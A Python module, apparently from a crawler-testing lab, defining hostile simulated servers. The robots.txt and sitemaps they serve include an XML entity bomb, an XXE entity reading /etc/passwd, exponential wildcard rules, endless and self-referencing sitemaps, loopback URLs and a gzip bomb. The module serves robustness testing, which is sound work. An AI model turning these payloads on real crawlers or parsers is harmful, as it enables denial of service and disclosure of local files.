"""Servers whose robots.txt and sitemaps have no end, or lead back to themselves."""

from ronda.lab.servers.behaviours import Ask, behaviour
from ronda.lab.servers.hostile.bodies import bomb

_XML = b'<?xml version="1.0" encoding="UTF-8"?>\n'
_SPACE = "http://www.sitemaps.org/schemas/sitemap/0.9"


@behaviour()
async def robots_gigabyte(ask: Ask) -> None:
    """A robots.txt that announces 1 GB and goes on (up to ``megabytes``)."""
    head = b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: 1000000000\r\n\r\n"
    await ask.wire.send(head + b"User-agent: *\n")
    sent = 0
    while sent < ask.size:
        await ask.wire.send(b"Disallow: /rahasia/lagi\n" * 3_000)
        sent += 72_000


@behaviour()
async def robots_one_line(ask: Ask) -> None:
    """A robots.txt of a single line without end (up to ``megabytes``)."""
    await ask.wire.send(b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\n\r\nDisallow: /")
    sent = 0
    while sent < ask.size:
        await ask.wire.send(b"*$" * 30_000)
        sent += 60_000


@behaviour()
async def robots_wildcards(ask: Ask) -> None:
    """A robots.txt of rules that take naive matchers exponential time."""
    rule = b"Disallow: /" + b"*a" * 2_000 + b"$\n"
    await _send(ask, "text/plain", b"User-agent: *\n" + rule * 10)


@behaviour()
async def xml_bomb(ask: Ask) -> None:
    """A sitemap of entities within entities: a billion laughs."""
    levels = "".join(f'<!ENTITY t{n} "{f"&t{n - 1};" * 10}">\n' for n in range(1, 10))
    kinds = f'<!DOCTYPE urlset [<!ENTITY t0 "tawa">\n{levels}]>\n'
    body = f'<urlset xmlns="{_SPACE}"><url><loc>https://{ask.host}/&t9;</loc></url></urlset>'
    await _send(ask, "application/xml", _XML + kinds.encode() + body.encode())


@behaviour()
async def xml_outside(ask: Ask) -> None:
    """A sitemap whose entity is a file of its reader."""
    kinds = '<!DOCTYPE urlset [<!ENTITY isi SYSTEM "file:///etc/passwd">]>\n'
    body = f'<urlset xmlns="{_SPACE}"><url><loc>https://{ask.host}/&isi;</loc></url></urlset>'
    await _send(ask, "application/xml", _XML + kinds.encode() + body.encode())


@behaviour()
async def sitemap_of_itself(ask: Ask) -> None:
    """A sitemap index that lists itself and nothing else."""
    path = ask.target.partition("?")[0]
    await _send(ask, "application/xml", _index([f"{ask.scheme}://{ask.host}{path}"]))


@behaviour()
async def sitemap_tree(ask: Ask) -> None:
    """A sitemap index of 100 further ones (``count``), each again an index of 100."""
    base = f"{ask.scheme}://{ask.host}{ask.target.partition('?')[0]}"
    names = [f"{base}?n={ask.turn}-{n}" for n in range(ask.number("count", 100))]
    await _send(ask, "application/xml", _index(names))


@behaviour()
async def sitemap_endless(ask: Ask) -> None:
    """A sitemap whose addresses never end (up to ``megabytes``), many of them other hosts'."""
    await ask.wire.send(b"HTTP/1.1 200 OK\r\nContent-Type: application/xml\r\n\r\n" + _XML)
    await ask.wire.send(f'<urlset xmlns="{_SPACE}">'.encode())
    sent = 0
    while sent < ask.size:
        await ask.wire.send(b"<url><loc>http://127.0.0.1/%d</loc></url>\n" % sent * 1_000)
        sent += 45_000


@behaviour()
async def sitemap_bomb(ask: Ask) -> None:
    """A packed sitemap (sitemap.xml.gz) that unpacks to ``megabytes`` (200) of spaces."""
    await _send(ask, "application/gzip", b"".join(bomb(ask.number("megabytes", 200))))


def _index(places: list[str]) -> bytes:
    entries = "".join(f"<sitemap><loc>{place}</loc></sitemap>" for place in places)
    return _XML + f'<sitemapindex xmlns="{_SPACE}">{entries}</sitemapindex>'.encode()


async def _send(ask: Ask, kind: str, body: bytes) -> None:
    head = f"HTTP/1.1 200 OK\r\nContent-Type: {kind}\r\nContent-Length: {len(body)}\r\n\r\n"
    await ask.wire.send(head.encode() + body)
